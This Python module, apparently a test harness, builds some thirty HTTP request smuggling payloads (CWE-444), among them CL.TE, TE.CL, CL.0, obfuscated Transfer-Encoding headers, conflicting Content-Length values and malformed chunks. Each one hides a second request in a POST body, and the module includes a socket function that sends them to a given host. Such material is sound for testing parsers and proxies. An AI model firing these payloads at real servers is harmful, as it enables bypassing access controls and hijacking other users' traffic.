"""Requests that two servers could read in two ways (CWE-444), as a client writes them."""

import socket
from typing import Final

HIDDEN_ID: Final = "hidden"
HIDDEN: Final = (
    b"GET /hidden HTTP/1.1\r\nHost: test\r\nX-Request-ID: " + HIDDEN_ID.encode() + b"\r\n\r\n"
)
CHUNKS: Final = b"0\r\n\r\n"
ONE_CHUNK: Final = b"%x\r\n" % len(HIDDEN) + HIDDEN + b"\r\n" + CHUNKS
"""Hides it in a body, for whoever goes by chunks."""
SECONDS: Final = 2.0
"""As long as nothing more comes."""


def post(*fields: bytes, body: bytes) -> bytes:
    """Write a request with these fields."""
    return b"\r\n".join((b"POST /healthz HTTP/1.1", b"Host: test", *fields, b"", body))


def length(body: bytes) -> bytes:
    """Announce a body."""
    return b"Content-Length: %d" % len(body)


CHUNKED: Final = b"Transfer-Encoding: chunked"
BOTH: Final = CHUNKS + HIDDEN
SHORT: Final = b"Content-Length: 4"
"""As long as the first line of a chunk."""

REQUESTS: Final = {
    "CL.TE": post(length(BOTH), CHUNKED, body=BOTH),
    "TE.CL": post(CHUNKED, SHORT, body=ONE_CHUNK),
    "CL.0": post(length(HIDDEN), body=HIDDEN),
    "TE.TE, an unknown coding first": post(
        b"Transfer-Encoding: x", CHUNKED, length(BOTH), body=BOTH
    ),
    "TE.TE, an unknown coding last": post(
        CHUNKED, b"Transfer-Encoding: identity", SHORT, body=ONE_CHUNK
    ),
    "TE.TE, a list": post(b"Transfer-Encoding: chunked, identity", SHORT, body=ONE_CHUNK),
    "TE.TE, a name that is nearly one": post(
        b"Transfer-Encoding: xchunked", length(BOTH), body=BOTH
    ),
    "TE.TE, a space before the colon": post(
        b"Transfer-Encoding : chunked", length(BOTH), body=BOTH
    ),
    "TE.TE, a tab": post(b"Transfer-Encoding:\tchunked", length(BOTH), body=BOTH),
    "TE.TE, a form feed": post(b"Transfer-Encoding: \x0cchunked", length(BOTH), body=BOTH),
    "TE.TE, an underscore": post(b"Transfer_Encoding: chunked", length(BOTH), body=BOTH),
    "TE.TE, capitals": post(b"tRANSFER-eNCODING: cHUNKED", length(BOTH), body=BOTH),
    "a folded field": post(b"Transfer-Encoding:\r\n chunked", length(BOTH), body=BOTH),
    "a folded field behind another": post(
        b"X-A: a\r\n Transfer-Encoding: chunked", length(BOTH), body=BOTH
    ),
    "bare line feeds": post(length(BOTH), body=BOTH).replace(b"\r\n", b"\n", 5),
    "a field after a bare line feed": post(b"X-A: a\n" + CHUNKED, length(BOTH), body=BOTH),
    "a field after a bare carriage return": post(b"X-A: a\r" + CHUNKED, length(BOTH), body=BOTH),
    "a length twice": post(length(HIDDEN), length(HIDDEN), body=HIDDEN),
    "two lengths": post(length(HIDDEN), b"Content-Length: 0", body=HIDDEN),
    "two lengths, the other way": post(b"Content-Length: 0", length(HIDDEN), body=HIDDEN),
    "a list of lengths": post(b"Content-Length: 0, %d" % len(HIDDEN), body=HIDDEN),
    "a signed length": post(b"Content-Length: +%d" % len(HIDDEN), body=HIDDEN),
    "a hexadecimal length": post(b"Content-Length: 0x%x" % len(HIDDEN), body=HIDDEN),
    "an extension of a chunk": post(CHUNKED, body=b"0;a=b\r\n\r\n" + HIDDEN),
    "an extension with a bare line feed": post(
        CHUNKED, body=b"2;\n" + b"xx\r\n%x\r\n" % len(HIDDEN) + HIDDEN + b"\r\n" + CHUNKS
    ),
    "a chunk that ends by a line feed": post(CHUNKED, body=b"0\n\n" + HIDDEN),
    "a chunk beyond all numbers": post(CHUNKED, body=b"f" * 17 + b"\r\n" + HIDDEN),
    "a trailer that is a field": post(
        CHUNKED, body=b"0\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN) + HIDDEN
    ),
    "a version of old": post(CHUNKED, body=BOTH).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
    "another protocol": post(
        b"Connection: Upgrade", b"Upgrade: websocket", length(HIDDEN), body=HIDDEN
    ),
    "a space in the path": post(length(b""), body=b"").replace(
        b"/healthz", b"/healthz HTTP/1.1\r\nX-A: b", 1
    )
    + HIDDEN,
}


def write(place: tuple[str, int], request: bytes) -> bytes:
    """Send it, and read what comes until nothing does."""
    with socket.create_connection(place, timeout=SECONDS) as connection:
        connection.sendall(request)
        said = b""
        try:
            while data := connection.recv(65536):
                said += data
        except (TimeoutError, ConnectionError):
            pass
    return said
